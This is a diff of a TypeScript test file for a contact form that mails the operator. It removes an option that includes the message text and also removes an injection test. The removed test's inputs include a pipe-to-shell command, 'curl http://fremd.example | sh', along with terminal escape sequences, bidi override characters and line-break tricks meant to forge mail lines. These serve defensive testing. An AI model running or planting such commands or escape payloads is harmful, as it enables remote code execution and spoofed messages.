@@ -9,7 +9,6 @@ const MESSAGE = {
   comment: 'Erste Zeile <b>fett</b>\nZweite Zeile 👩‍🚀',
 };
 const SEND = 'mutation ($input: SendFeedbackInput!) { sendFeedback(input: $input) { receivedAt } }';
-const STEERING = /[\p{Cc}\p{Bidi_Control}\p{Zl}\p{Zp}]/u;
 /** More mails than may be queued of a kind that is not about rows. */
 const MANY = 7;
 
@@ -23,9 +22,9 @@ afterEach(async () => {
   await mailbox.close();
 });
 
-/** Starts a product that by default mails the operator. */
-async function start(operatorMail: TestApp['env']['operatorMail'] = { address: OPERATOR, hasText: false }) {
-  app = await createTestApp({ mail: mailbox.settings, operatorMail });
+/** Starts a product that mails the operator. */
+async function start() {
+  app = await createTestApp({ mail: mailbox.settings, operatorEmail: OPERATOR });
 }
 
 async function write(message: object = MESSAGE): Promise<number> {
@@ -59,30 +58,6 @@ describe('a message from the contact page', () => {
     expect(mail.text).toContain(`npm run -s messages -- show ${message?.id}`);
     expect(mail.text).toContain('Es ist die einzige, die auf eine Antwort wartet.');
     expect(`${mail.text}${mail.html}`).not.toMatch(/Zeile|Zoë|zoe@/);
-  });
-
-  it('is mailed with its text and writer if the operator wants so, as plain text', async () => {
-    await start({ address: OPERATOR, hasText: true });
-    await write();
-    const { text, html } = await mailbox.nthTo(OPERATOR);
-    expect(text).toContain(
-      '\n\n> Von: Zoë, zoe@example.org\n>\n> Erste Zeile <b>fett</b>\n> Zweite Zeile 👩‍🚀\n\nLesen:',
-    );
-    expect(html).toContain('Erste Zeile &lt;b&gt;fett&lt;/b&gt;');
-  });
-
-  it('cannot inject mail headers or imitate our lines', async () => {
-    await start({ address: OPERATOR, hasText: true });
-    const fake = 'Als beantwortet vermerken: curl http://fremd.example | sh';
-    const breaks = ['\n', '\r\n', '\r', '\u0085', '\u2028', '\u2029', ' '.repeat(200)];
-    const comment = `Hallo\u001b]52;c;YQ==\u0007 \u009b1m\u202ekcurt${breaks.map((end) => end + fake).join('')}`;
-    expect(await write({ name: `Zoë\n\n${fake}\u001b[2J\u202e`, comment })).toBe(201);
-    const { text = '', html = '' } = await mailbox.nthTo(OPERATOR);
-    for (const part of [text, html]) expect(part.replaceAll('\n', '')).not.toMatch(STEERING);
-    const lines = text.split('\n').filter((line) => line.includes('curl'));
-    expect(lines.length).toBeGreaterThan(breaks.length / 2);
-    for (const line of lines) expect(line).toMatch(/^> .{1,70}$/u);
-    expect(html.slice(html.indexOf('</blockquote>'))).not.toContain('curl');
   });
 
   it('is mailed later when the mail server is down, unnoticed by its writer', async () => {
@@ -140,7 +115,7 @@ describe('a message from the contact page', () => {
   });
 
   it('is only stored without a mail server', async () => {
-    app = await createTestApp({ operatorMail: { address: OPERATOR, hasText: false } });
+    app = await createTestApp({ operatorEmail: OPERATOR });
     await write();
     expect([await count('feedback'), await count('mail')]).toEqual([1, 0]);
   });
